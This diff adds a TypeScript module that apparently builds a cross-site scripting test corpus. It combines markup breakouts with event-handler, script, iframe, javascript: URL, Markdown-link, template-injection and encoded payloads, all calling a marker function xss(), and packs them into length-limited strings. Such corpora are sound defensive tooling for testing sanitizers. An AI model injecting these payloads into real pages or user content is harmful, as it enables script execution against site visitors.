@@ -1,0 +1,84 @@
+/** Ways out of where a text stands: an attribute, a raw text element, a script, a style, a comment. */
+const waysOut = [
+  '',
+  '">',
+  "'>",
+  '</title>',
+  '</textarea>',
+  '</script>',
+  '</style>',
+  '-->',
+  '</template>',
+  '</noscript>',
+]
+
+/** What runs once it is markup. Each says so with `xss()`, or is there to be found. */
+const acts = [
+  '<script>xss()</script>',
+  '<img src=x onerror=xss()>',
+  '<svg onload=xss()>',
+  '<svg><script>xss()</script></svg>',
+  '<iframe srcdoc="<script>parent.xss()</script>">',
+  '<iframe src=javascript:parent.xss()>',
+  '<details open ontoggle=xss()>',
+  '<input autofocus onfocus=xss()>',
+  '<video><source onerror=xss()></video>',
+  '<audio src=x onerror=xss()>',
+  '<body onload=xss()>',
+  '<a href=javascript:xss()>a</a>',
+  '<object data=javascript:xss()></object>',
+  '<embed src=javascript:xss()>',
+  '<math><mi xlink:href=javascript:xss()>x</mi></math>',
+  '<marquee onstart=xss()>x</marquee>',
+  '<link rel=stylesheet href=x onerror=xss()>',
+  '<base href=//xss.invalid/>',
+  '<meta http-equiv=refresh content=0;url=javascript:xss()>',
+]
+
+/** What means something to Markdown, to a link, to JSON in a script, or to whoever unescapes once too often. */
+const others = [
+  '[a](javascript:xss())',
+  '![a](javascript:xss())',
+  '<javascript:xss()>',
+  '[a]: javascript:xss()',
+  'https://a.example/"onmouseover="xss()',
+  "https://a.example/'onclick='xss()",
+  'https://a.example/<script>xss()</script>',
+  'javascript:xss()',
+  'JaVaScRiPt:xss()',
+  'java\tscript:xss()',
+  'data:text/html,<script>xss()</script>',
+  'vbscript:xss()',
+  '`<img src=x onerror=xss()>`',
+  '**<b onclick=xss()>b</b>**',
+  '> <img src=x onerror=xss()>',
+  '{{constructor.constructor("xss()")()}}',
+  '${xss()}',
+  '"};xss();//',
+  "';xss();//",
+  '\\";xss();//',
+  '\\u003cscript\\u003exss()\\u003c/script\\u003e',
+  '%3Cscript%3Exss()%3C/script%3E',
+  '&lt;script&gt;xss()&lt;/script&gt;',
+  '&#60;img src=x onerror=xss()&#62;',
+  '<!--<script>xss()',
+  ']]><script>xss()</script>',
+  '\u2028xss()\u2029',
+]
+
+/** Texts that would run if a page took them for markup. */
+export const payloads: readonly string[] = [...waysOut.flatMap(out => acts.map(act => out + act)), ...others]
+
+/** All of them, in as few texts of at most so many characters as it takes. */
+export function packed(most: number): string[] {
+  const texts: string[] = []
+  let text = ''
+  for (const payload of payloads.filter(({ length }) => length <= most)) {
+    if (text && text.length + 1 + payload.length > most) {
+      texts.push(text)
+      text = ''
+    }
+    text = text ? `${text} ${payload}` : payload
+  }
+  return [...texts, text]
+}
